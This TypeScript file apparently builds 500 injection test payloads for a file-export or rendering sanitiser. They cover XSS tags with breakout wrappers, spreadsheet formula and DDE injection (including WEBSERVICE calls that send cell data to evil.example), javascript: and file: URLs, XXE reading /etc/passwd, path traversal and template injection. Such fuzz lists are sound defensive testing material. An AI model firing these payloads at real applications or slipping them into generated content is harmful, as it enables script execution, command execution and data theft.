// Payloads: 500 texts that try to run, load or compute something in whatever file they end up in; `hacked` is what they would set.

const RUN = 'parent.hacked=1';
const AWAY = 'http://evil.example/';

/** What a browser would run, each in several wrappings. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${AWAY}x.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}p.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="${AWAY}s.svg#a"/></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe src=javascript:${RUN}>`,
  `<object data=${AWAY}></object>`,
  `<embed src=${AWAY}>`,
  `<link rel=stylesheet href=${AWAY}s.css>`,
  `<style>@import '${AWAY}s.css';</style>`,
  `<base href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action=${AWAY}><button autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<foreignObject><body onload=${RUN}/></foreignObject>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<p style="background:url(${AWAY}b.png)">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

/** What each would first have to get out of. */
const WRAPPERS: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `"${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `"/>${inner}`,
  (inner) => `]]>${inner}`,
  (inner) => `-->${inner}<!--`,
  (inner) => `</title>${inner}`,
  (inner) => `</style>${inner}`,
  (inner) => `</script>${inner}`,
  (inner) => `</text></svg>${inner}`,
  (inner) => `</a:t></a:r>${inner}`,
  (inner) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (inner) => `\u0000${inner}\uFFFE`,
  (inner) => `\u202E${inner}\u2066`,
];

/** What a spreadsheet would compute, with what stands before it. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","click")',
  '=WEBSERVICE("http://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+cmd|calc!A1',
  '-2+3+cmd|calc!A1',
  '@SUM(1+1)*cmd|calc!A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '|=1+1',
  '＝1+1',
  '＋1+1',
];

/** Addresses that no file may lead to. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '\\\\evil.example\\share',
  'ms-word:ofe|u|http://evil.example/a.docx',
  'blob:http://evil.example/1',
];

/** What other readers of text take for orders. */
const MARKUP = [
  `[click](javascript:${RUN})`,
  `![x](${AWAY}p.png)`,
  `<${AWAY}>`,
  `[ref]: ${AWAY} "title"`,
  '# heading\n---\n> quote\n* list',
  '| a | b |\n|---|---|',
  '```html\n<b>\n```',
  `%%{init: {"securityLevel": "loose", "theme": "base"}}%%`,
  'section Evil\n  Task: 5: Me',
  'end\nclick A href "javascript:parent.hacked=1"',
  'title Evil; 3: Me: you #35; #quot;',
  `!${AWAY}p.png!`,
  `{html}<script>${RUN}</script>{html}`,
  `[click|javascript:${RUN}]`,
  `{color:red}{noformat}{code}`,
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
  '&e; &#x3c;script&#x3e; &amp;lt;',
  '_x003D_1+1 _x000D_',
  'html=1;image=http://evil.example/p.png;style=shape=image',
  '../../../../etc/passwd',
  'C:\\windows\\system32\\x',
  'CON.html',
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %> #{${RUN}}`,
  '\uD800 lone \uDC00',
  '\u0007\u0008\u000B\u000C\u001B[31m',
  '🙂'.repeat(500),
  'W'.repeat(3_000),
  '__proto__',
  'constructor',
  'picture:0SNAP0000000000000000000010',
  '" src="picture:0SNAP0000000000000000000010',
  ' style="position:fixed;inset:0"',
];

const together = [
  ...SCRIPTS.flatMap((script) => WRAPPERS.map((wrap) => wrap(script))),
  ...FORMULAS.flatMap((formula) => [formula, `${formula}\n${formula}`, `"${formula}`]),
  ...ADDRESSES.flatMap((address) => [address, ` ${address}`, `${address}" onclick="${RUN}`]),
  ...MARKUP,
];

/** Each is another one. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...together, ...MARKUP.map((text) => `"${text}'`), ...FORMULAS.map((text) => `${text} <b>`)]),
].slice(0, 500);
